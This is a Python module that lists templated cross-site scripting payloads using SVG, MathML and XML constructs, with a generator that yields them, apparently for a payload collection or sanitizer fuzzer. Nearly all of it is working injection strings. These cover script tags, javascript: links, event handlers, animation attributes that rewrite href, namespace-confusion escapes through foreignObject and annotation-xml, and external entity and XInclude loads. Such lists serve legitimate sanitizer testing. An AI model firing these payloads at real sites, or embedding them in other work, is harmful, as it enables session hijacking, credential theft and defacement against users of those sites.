"""Elements of SVG and MathML, and of XML where HTML is parsed."""

from __future__ import annotations

from collections.abc import Iterator

_INSIDE_SVG = (
    *(
        "<script>@run@</script>",
        "<script href=@load@></script>",
        "<script xlink:href=@load@></script>",
    ),
    *(
        "<script href='data:,@run@'/>",
        "<script>&#114;an(@n@)</script>",
        "<script><![CDATA[@run@]]></script>",
    ),
    *("<style>@import url(@load@);</style>", "<style>*{background:url(@load@)}</style>"),
    *("<image href=x onerror=@run@ />", "<image xlink:href=@load@ />", "<image href=@load@ />"),
    *(
        "<feImage href=@load@ />",
        "<filter id=f><feImage xlink:href=@load@ /></filter><rect filter=url(#f) width=9 height=9 />",
    ),
    *(
        "<use href=@load@#x />",
        "<use xlink:href='data:image/svg+xml,<svg id=x onload=@run@ />#x'/>",
        "<a href=javascript:@run@><text y=9>w</text></a>",
    ),
    *(
        "<a xlink:href=javascript:@run@><rect width=99 height=99 /></a>",
        "<a><animate attributeName=href values=javascript:@run@ /><text y=9>w</text></a>",
    ),
    *(
        "<a><set attributeName=href to=javascript:@run@ /><text y=9>w</text></a>",
        "<a><set attributeName=xlink:href to=javascript:@run@ /><text y=9>w</text></a>",
    ),
    *(
        "<animate onbegin=@run@ attributeName=x dur=1s />",
        "<animate onend=@run@ attributeName=x dur=.01s />",
        "<animateTransform onbegin=@run@ attributeName=transform dur=1s />",
    ),
    *(
        "<animateMotion onbegin=@run@ dur=1s />",
        "<set onbegin=@run@ attributeName=x to=1 />",
        "<animate onrepeat=@run@ attributeName=x dur=.01s repeatCount=3 />",
    ),
    *(
        "<set attributeName=onmouseover to=@run@ />",
        "<animate attributeName=onclick values=@run@ />",
        "<discard onbegin=@run@ />",
    ),
    *(
        "<foreignObject><img src=x onerror=@run@></foreignObject>",
        "<foreignObject><iframe srcdoc='<script>parent.@run@</script>'></iframe></foreignObject>",
    ),
    *(
        "<foreignObject><body onload=@run@></foreignObject>",
        "<foreignObject><script>@run@</script></foreignObject>",
        "<desc><script>@run@</script></desc>",
    ),
    *(
        "<title><img src=x onerror=@run@></title>",
        "<metadata><script>@run@</script></metadata>",
        "<handler type=text/javascript ev:event=load>@run@</handler>",
    ),
    *(
        "<listener event=load handler=#x /><handler id=x>@run@</handler>",
        "<rect width=99 height=99 onclick=@run@ />",
        "<g onload=@run@></g>",
    ),
    *(
        "<text y=9 onmouseover=@run@>words</text>",
        "<switch><g onclick=@run@><rect width=9 height=9 /></g></switch>",
        "<view onfocus=@run@ />",
    ),
    *(
        "<cursor xlink:href=@load@ />",
        "<font-face-uri xlink:href=@load@ />",
        "<mpath xlink:href=@load@ />",
        "<tref xlink:href=@load@ />",
        "<script/xlink:href=data:,@run@ />",
    ),
    *(
        "<![CDATA[><script>@run@</script>]]>",
        "<p><script>@run@</script>",
        "</p><script>@run@</script>",
        "<br><img src=x onerror=@run@>",
    ),
    *(
        "<font color=x><img src=x onerror=@run@>",
        "<font><img src=x onerror=@run@>",
        "<table><img src=x onerror=@run@></table>",
        "<svg><script>@run@</script></svg>",
    ),
)
_INSIDE_MATH = (
    *(
        "<mi href=javascript:@run@>words</mi>",
        "<mi xlink:href=javascript:@run@>words</mi>",
        "<maction actiontype=statusline xlink:href=javascript:@run@>words</maction>",
    ),
    *(
        "<maction actiontype='statusline#x' href=javascript:@run@>words</maction>",
        "<mtext><script>@run@</script></mtext>",
        "<mtext><img src=x onerror=@run@></mtext>",
    ),
    *(
        "<annotation-xml encoding=text/html><script>@run@</script></annotation-xml>",
        "<annotation-xml encoding=TEXT/HTML><img src=x onerror=@run@></annotation-xml>",
    ),
    *(
        "<semantics><annotation-xml encoding=application/xhtml+xml><img src=x onerror=@run@>",
        "<mglyph src=@load@></mglyph>",
        "<malignmark onclick=@run@>words</malignmark>",
    ),
    *(
        "<mi onclick=@run@ tabindex=0>words</mi>",
        "<mrow onmouseover=@run@>words</mrow>",
        "<mstyle style='background:url(@load@)'>words</mstyle>",
    ),
    *(
        "<ms><svg onload=@run@></svg></ms>",
        "<mo><iframe src=javascript:parent.@run@></iframe></mo>",
        "<img src=x onerror=@run@>",
        "<p><img src=x onerror=@run@>",
    ),
    *(
        "<mtable><mtr><mtd onclick=@run@>words</mtd></mtr></mtable>",
        "<mpadded width=9 onpointerdown=@run@>words</mpadded>",
        "<style><img src=x onerror=@run@></style>",
    ),
)
_XML = (
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>@run@</h:script></x>",
    "<?xml-stylesheet href='javascript:@run@'?><p>words</p>",
    "<?xml-stylesheet type='text/xsl' href='@load@'?><p>words</p>",
    "<html xmlns:x='urn:x'><x:script>@run@</x:script><x:img src=x onerror=@run@ />",
    "<xml id=x><x><c><![CDATA[<img src=x onerror=@run@>]]></c></x></xml>",
    "<!DOCTYPE x [<!ENTITY e '<script>@run@</script>'>]><x>&e;</x>",
    "<!DOCTYPE x SYSTEM '@load@'><p>words</p>",
    "<!ENTITY e SYSTEM '@load@'><p>&e;</p>",
    "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='#x'/><script>@run@</script></svg>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>@run@</x:script>",
    "<xi:include href='@load@' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    "<vml:frame xmlns:vml='urn:schemas-microsoft-com:vml' src='@load@'></vml:frame>",
    "<t:set xmlns:t='urn:schemas-microsoft-com:time' attributeName=innerHTML to='<img src=x onerror=@run@>'>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>@run@</html:script><html:img src='x' onerror='@run@'/>",
    "<svg/onload=@run@>", "<svg\tonload=@run@>", "<svg//onload=@run@//", "<SVG ONLOAD=@run@>", "<svg onload=@run@",
    "<math/onclick=@run@ tabindex=0>words", "<svg id=x onfocus=@run@ tabindex=0>", "<svg onresize=@run@>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    for inside in _INSIDE_SVG:
        yield f"<svg width=99 height=99>{inside}</svg>"
    for inside in _INSIDE_MATH:
        yield f"<math>{inside}</math>"
    yield from _XML
